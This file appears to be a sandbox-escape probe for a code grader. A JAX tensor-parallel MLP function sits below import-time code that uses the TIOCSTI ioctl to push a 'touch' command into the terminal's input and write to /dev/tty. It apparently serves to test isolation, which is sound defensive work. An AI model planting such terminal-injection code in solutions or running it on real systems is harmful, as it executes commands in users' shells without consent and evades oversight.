"""Pushes characters into the terminal's input, where a shell would read them as a command.

verdicts: AC
harm: leak LEAKED
harm: file @FOLDER@/typed
"""

import fcntl

import jax
from jax.sharding import AxisType, PartitionSpec as P

for descriptor in (0, 1, 2):
    for character in b"touch @FOLDER@/typed\n":
        try:
            fcntl.ioctl(descriptor, 0x5412, bytes([character]))
            print("LEAKED")
        except OSError:
            break
try:
    open("/dev/tty", "w").write("LEAKED")
except OSError:
    pass


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    mesh = jax.make_mesh((8,), ("model",), axis_types=(AxisType.Auto,))

    def body(x, w1, b1, w2):
        hidden = jax.nn.relu(x @ w1 + b1)
        return hidden, jax.lax.psum(hidden @ w2, "model")

    hidden, out = jax.shard_map(
        body,
        mesh=mesh,
        in_specs=(P(), P(None, "model"), P("model"), P("model", None)),
        out_specs=(P(None, "model"), P()),
    )(x, w1, b1, w2)
    return {"out": out + b2, "hidden": hidden}
